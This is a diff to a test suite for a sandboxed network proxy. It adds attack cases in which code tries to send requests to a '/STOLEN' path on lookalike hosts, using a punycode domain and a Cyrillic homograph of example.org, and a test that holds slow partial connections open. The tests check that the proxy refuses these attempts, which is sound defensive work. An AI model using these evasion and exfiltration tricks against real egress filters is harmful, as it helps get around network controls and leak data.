@@ -37,6 +37,7 @@ _NAMES = {
     "late.example.org": [[PRIVATE], [WEB]],
     "example.org.example.net": [[OTHER]],
     "evil-example.org": [[OTHER]],
+    "xn--exmple-4nf.org": [[OTHER]],
 }
 _ALLOW = ("example.org:80", "example.org:443", "*.example.org:80", "*.example.org:443")
 _KIT = f"""
@@ -169,6 +170,15 @@ _ATTACKS = {
     ),
     "name_that_ends_like_a_listed_one": Attack(
         "get('http://evil-example.org/STOLEN')", {"path": "/STOLEN"}, "not in network.allow"
+    ),
+    "name_that_looks_like_a_listed_one": Attack(
+        "get('http://xn--exmple-4nf.org/STOLEN')", {"path": "/STOLEN"}, "xn--exmple-4nf.org:80 is not in network.allow"
+    ),
+    "name_that_looks_like_a_listed_one_in_its_own_letters": Attack(
+        "raw('GET http://ex\u0430mple.org/STOLEN HTTP/1.1\\r\\nHost: ex\u0430mple.org\\r\\n\\r\\n'.encode())",
+        {"path": "/STOLEN"},
+        "characters that a URL cannot have",
+        f"get('http://ex\u0430mple.org/STOLEN', host='x', place=({OTHER!r}, 80))",
     ),
     "trailing_dot": Attack(
         "get('http://example.org./STOLEN')", {"path": "/STOLEN"}, "without the dot", allow=("example.org:80",)
@@ -437,6 +447,17 @@ def test_flood_of_connections_is_bounded(internet: Internet) -> None:
     assert any("50 requests, the most that network.requests allows" in each.reason for each in use.refusals)
     assert use.requests <= 50 + 100 + 8 and use.refused <= use.requests
     assert result.ok and int(result.stdout) < 1400
+
+
+def test_slow_requests_give_their_place_back(internet: Internet) -> None:
+    code = (
+        "slow = [socket.create_connection(PROXY) for _ in range(3)]\n"
+        "for sock in slow: sock.sendall(b'GET http://exa')\n"
+        "begin = time.monotonic(); answer = get('http://example.org/x')[9:12]\n"
+        "print(answer, time.monotonic() - begin < 4, slow[0].recv(100)[9:12])"
+    )
+    result, use, _ = _run(internet, code, connections=2, connect_time=0.5)
+    assert result.stdout == "b'200' True b'408'\n" and use.refused >= 2, (result.stderr, use)
 
 
 def test_bytes_and_rate_are_bounded(internet: Internet) -> None:
